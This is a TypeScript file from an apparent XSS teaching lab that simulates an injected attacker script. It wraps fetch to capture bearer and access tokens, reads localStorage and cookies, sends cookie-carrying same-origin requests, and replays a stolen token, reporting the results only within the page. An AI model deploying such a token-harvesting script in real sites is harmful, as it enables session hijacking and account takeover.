/**
 * THE "INJECTED" SCRIPT of the XSS lab (web/static/xss-lab.html, demo mode only). It stands for script an
 * attacker got into the page. It runs before the app, wraps `fetch` to watch what the app sends and
 * receives (that is how script reaches a token kept "only in memory"), and once the app is logged in it
 * reports what it could read (localStorage, page memory, document.cookie) and what it could do
 * (same-origin requests that carry the HttpOnly cookies without reading them). The report goes into
 * #report as JSON (the runner's story reads it); it never leaves the page.
 */
export {}

interface Report {
  mount: string
  kind: string
  localStorage: Record<string, string>
  memory: string[]
  documentCookie: string
  rides: Array<{ method: string, path: string, status: number, gotAccessToken: boolean }>
  stolenTokenWorks: number | null
}

const seen = new Set<string>()
const original = window.fetch.bind(window)

/** Remembers every bearer token the app sends and every access token it receives. */
window.fetch = async (input: RequestInfo | URL, init?: RequestInit): Promise<Response> => {
  const auth = new Headers(init?.headers).get('authorization')
  if (auth !== null && /^Bearer /.test(auth)) seen.add(auth.slice(7))
  const res = await original(input, init)
  if ((res.headers.get('content-type') ?? '').includes('json')) {
    const body = await res.clone().json().catch(() => null) as { access_token?: unknown } | null
    if (typeof body?.access_token === 'string') seen.add(body.access_token)
  }
  return res
}

async function ride (method: string, path: string, body?: object): Promise<Report['rides'][number]> {
  // credentials: 'same-origin' is fetch's default; spelled out because it is the point.
  const res = await original(path, { method, credentials: 'same-origin', ...(body === undefined ? {} : { headers: { 'content-type': 'application/json' }, body: JSON.stringify(body) }) })
  const json = await res.json().catch(() => null) as { access_token?: unknown } | null
  return { method, path, status: res.status, gotAccessToken: typeof json?.access_token === 'string' }
}

window.addEventListener('lab:app-ready', event => {
  (async () => {
    const { mount, kind } = (event as CustomEvent<{ mount: string, kind: string }>).detail
    const stored: Record<string, string> = {}
    for (let i = 0; i < localStorage.length; i++) {
      const key = localStorage.key(i)
      if (key !== null) stored[key] = localStorage.getItem(key) ?? ''
    }
    const rides = [await ride('POST', `${mount}/api/notes`, { text: 'written by the injected script' })]
    // The refresh cookie is HttpOnly, SameSite=Strict and Path-scoped: unreadable, but this page is its site.
    if (kind === 'jwt') rides.push(await ride('POST', `${mount}/refresh`))
    const token = [...seen][0] ?? Object.values(stored)[0]
    let stolenTokenWorks: number | null = null
    if (token !== undefined) stolenTokenWorks = (await original(`${mount}/api/me`, { credentials: 'omit', headers: { authorization: `Bearer ${token}` } })).status
    const report: Report = { mount, kind, localStorage: stored, memory: [...seen], documentCookie: document.cookie, rides, stolenTokenWorks }
    const out = document.getElementById('report')
    if (out !== null) {
      out.textContent = JSON.stringify(report, null, 2)
      out.dataset.done = 'true'
    }
  })().catch((err: unknown) => { console.error(err) })
})
